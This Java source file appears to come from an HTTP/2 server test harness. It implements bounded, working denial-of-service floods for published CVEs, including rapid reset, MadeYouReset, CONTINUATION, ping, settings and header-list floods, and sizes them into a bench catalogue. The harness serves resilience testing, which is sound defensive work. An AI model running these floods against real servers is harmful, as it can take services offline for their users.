package dev.h2harness.attack;

import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.net.InetAddress;
import java.net.InetSocketAddress;
import java.time.Duration;
import java.util.ArrayList;
import java.util.List;

/**
 * A published HTTP/2 denial-of-service pattern, bounded: at most its count of frames (or
 * connections), and at most {@code limit} of wall time. It runs against any h2c target from a
 * chosen loopback source address and reports what the target did ({@link Outcome}); the verdict
 * (which code, within how many frames) belongs to the caller.
 */
public sealed interface Attack {
  /** The row name, e.g. "rapid reset (CVE-2023-44487)". */
  String title();

  Outcome run(InetSocketAddress target, InetAddress source, Duration limit) throws IOException, InterruptedException;

  /** CVE-2023-44487: HEADERS then RST_STREAM(CANCEL) on each new stream. */
  record RapidReset(int streams) implements Attack {
    public String title() {
      return "rapid reset (CVE-2023-44487), " + String.format("%,d", streams) + " streams";
    }

    public Outcome run(InetSocketAddress target, InetAddress source, Duration limit) throws IOException, InterruptedException {
      byte[] block = Wire.request("GET", "/", "localhost", new byte[0]);
      return Flood.perStream(title(), target, source, limit, streams, 2, (out, id) -> {
        Wire.frame(out, Wire.HEADERS, Wire.END_STREAM | Wire.END_HEADERS, id, block);
        Wire.frame(out, Wire.RST_STREAM, 0, id, Wire.int32(0x8));
      });
    }
  }

  /** CVE-2025-8671 "MadeYouReset": a valid request, then a frame that makes the target reset it. */
  record MadeYouReset(Variant variant, int streams) implements Attack {
    public enum Variant {
      WINDOW_UPDATE_ZERO("WINDOW_UPDATE 0"),
      DATA_ON_HALF_CLOSED("DATA on a half-closed stream"),
      PRIORITY_ON_ITSELF("PRIORITY on itself");

      final String text;

      Variant(String text) {
        this.text = text;
      }
    }

    public String title() {
      return "MadeYouReset (CVE-2025-8671): " + variant.text;
    }

    public Outcome run(InetSocketAddress target, InetAddress source, Duration limit) throws IOException, InterruptedException {
      byte[] block = Wire.request("GET", "/", "localhost", new byte[0]);
      return Flood.perStream(title(), target, source, limit, streams, 2, (out, id) -> {
        Wire.frame(out, Wire.HEADERS, Wire.END_STREAM | Wire.END_HEADERS, id, block);
        switch (variant) {
          case WINDOW_UPDATE_ZERO -> Wire.frame(out, Wire.WINDOW_UPDATE, 0, id, Wire.int32(0));
          case DATA_ON_HALF_CLOSED -> Wire.frame(out, Wire.DATA, 0, id, new byte[] {'x'});
          case PRIORITY_ON_ITSELF -> {
            byte[] self = java.util.Arrays.copyOf(Wire.int32(id), 5); // depends on itself (RFC 9113 §5.3.1)
            self[4] = 15;
            Wire.frame(out, Wire.PRIORITY, 0, id, self);
          }
        }
      });
    }
  }

  /** Requests held open (no END_STREAM), far beyond SETTINGS_MAX_CONCURRENT_STREAMS. */
  record StreamBurst(int streams) implements Attack {
    public String title() {
      return "GET burst beyond MAX_CONCURRENT_STREAMS, " + String.format("%,d", streams) + " streams";
    }

    public Outcome run(InetSocketAddress target, InetAddress source, Duration limit) throws IOException, InterruptedException {
      byte[] block = Wire.request("GET", "/", "localhost", new byte[0]);
      return Flood.perStream(title(), target, source, limit, streams, 1,
          (out, id) -> Wire.frame(out, Wire.HEADERS, Wire.END_HEADERS, id, block));
    }
  }

  /** CVE-2019-9514: a malformed request on each stream, each answered with RST_STREAM. */
  record ResetFlood(int streams) implements Attack {
    public String title() {
      return "reset flood (CVE-2019-9514), " + String.format("%,d", streams) + " malformed requests";
    }

    public Outcome run(InetSocketAddress target, InetAddress source, Duration limit) throws IOException, InterruptedException {
      // An uppercase field name makes the request malformed (RFC 9113 §8.2.1): a stream error.
      byte[] bad = {0x00, 0x01, 'X', 0x01, 'y'};
      byte[] block = Wire.request("GET", "/", "localhost", bad);
      return Flood.perStream(title(), target, source, limit, streams, 1,
          (out, id) -> Wire.frame(out, Wire.HEADERS, Wire.END_STREAM | Wire.END_HEADERS, id, block));
    }
  }

  /** CVE-2024-27316 family: a header block that never ends, in empty CONTINUATION frames. */
  record ContinuationFlood(int frames) implements Attack {
    public String title() {
      return "empty CONTINUATION frames (CVE-2024-27316), " + String.format("%,d", frames);
    }

    public Outcome run(InetSocketAddress target, InetAddress source, Duration limit) throws IOException, InterruptedException {
      byte[] block = Wire.request("GET", "/", "localhost", new byte[0]);
      ByteArrayOutputStream first = new ByteArrayOutputStream();
      Wire.frame(first, Wire.HEADERS, Wire.END_STREAM, 1, block);
      return Flood.frames(title(), target, source, limit, first.toByteArray(), frames,
          out -> Wire.frame(out, Wire.CONTINUATION, 0, 1, new byte[0]));
    }
  }

  /** CVE-2019-9512. */
  record PingFlood(int frames) implements Attack {
    public String title() {
      return "ping flood (CVE-2019-9512), " + String.format("%,d", frames);
    }

    public Outcome run(InetSocketAddress target, InetAddress source, Duration limit) throws IOException, InterruptedException {
      return Flood.frames(title(), target, source, limit, new byte[0], frames,
          out -> Wire.frame(out, Wire.PING, 0, 0, new byte[8]));
    }
  }

  /** CVE-2019-9515. */
  record SettingsFlood(int frames) implements Attack {
    public String title() {
      return "settings flood (CVE-2019-9515), " + String.format("%,d", frames);
    }

    public Outcome run(InetSocketAddress target, InetAddress source, Duration limit) throws IOException, InterruptedException {
      return Flood.frames(title(), target, source, limit, new byte[0], frames,
          out -> Wire.frame(out, Wire.SETTINGS, 0, 0, new byte[0]));
    }
  }

  /** CVE-2019-9518: empty DATA frames without END_STREAM on an open request. */
  record EmptyDataFlood(int frames) implements Attack {
    public String title() {
      return "empty DATA frames (CVE-2019-9518), " + String.format("%,d", frames);
    }

    public Outcome run(InetSocketAddress target, InetAddress source, Duration limit) throws IOException, InterruptedException {
      ByteArrayOutputStream first = new ByteArrayOutputStream();
      Wire.frame(first, Wire.HEADERS, Wire.END_HEADERS, 1, Wire.request("POST", "/", "localhost", new byte[0]));
      return Flood.frames(title(), target, source, limit, first.toByteArray(), frames,
          out -> Wire.frame(out, Wire.DATA, 0, 1, new byte[0]));
    }
  }

  /**
   * CVE-2019-9516 family: requests of many zero-length fields (one octet each once indexed),
   * held open, on several connections at once, one stream a millisecond on each.
   */
  record HeaderListFlood(int fieldsPerStream, int streamsPerConnection, int connections) implements Attack {
    public String title() {
      return "zero-length headers, " + String.format("%,d", fieldsPerStream) + " fields x " + streamsPerConnection
          + " streams held open x " + connections + " connections (CVE-2019-9516 family)";
    }

    public Outcome run(InetSocketAddress target, InetAddress source, Duration limit) throws IOException, InterruptedException {
      // Field "" = "" added to the dynamic table once per block, then indexed (62) over and over.
      ByteArrayOutputStream extra = new ByteArrayOutputStream();
      extra.writeBytes(new byte[] {0x40, 0x00, 0x00});
      for (int i = 1; i < fieldsPerStream; i++) extra.write(0xbe);
      byte[] block = Wire.request("GET", "/", "localhost", extra.toByteArray());
      return Flood.connections(title(), target, source, limit, connections, streamsPerConnection, (out, id) -> {
        int at = 0;
        boolean first = true;
        while (at < block.length || first) {
          int n = Math.min(16384, block.length - at);
          byte[] part = java.util.Arrays.copyOfRange(block, at, at + n);
          at += n;
          int flags = at == block.length ? Wire.END_HEADERS : 0;
          Wire.frame(out, first ? Wire.HEADERS : Wire.CONTINUATION, flags, id, part);
          first = false;
        }
      });
    }
  }

  /** Connections that send the preface and nothing more, held until the target ends them. */
  record IdlePreface(int connections) implements Attack {
    public String title() {
      return String.format("%,d", connections) + " idle connections that send only the preface";
    }

    public Outcome run(InetSocketAddress target, InetAddress source, Duration limit) throws IOException, InterruptedException {
      return Flood.connections(title(), target, source, limit, connections, 0, null);
    }
  }

  /** The whole set, as the table in docs/server.md lists it, sized for a bench run. */
  static List<Attack> catalogue(int scale) {
    List<Attack> all = new ArrayList<>();
    all.add(new RapidReset(100_000 / scale));
    for (MadeYouReset.Variant v : MadeYouReset.Variant.values()) all.add(new MadeYouReset(v, 100_000 / scale));
    all.add(new StreamBurst(10_000 / scale));
    all.add(new ResetFlood(100_000 / scale));
    all.add(new ContinuationFlood(1_000_000 / scale));
    all.add(new HeaderListFlood(36_000, 99, Math.max(2, 20 / scale)));
    all.add(new IdlePreface(Math.max(40, 1100 / scale)));
    all.add(new PingFlood(1_000_000 / scale));
    all.add(new SettingsFlood(1_000_000 / scale));
    all.add(new EmptyDataFlood(1_000_000 / scale));
    return all;
  }
}
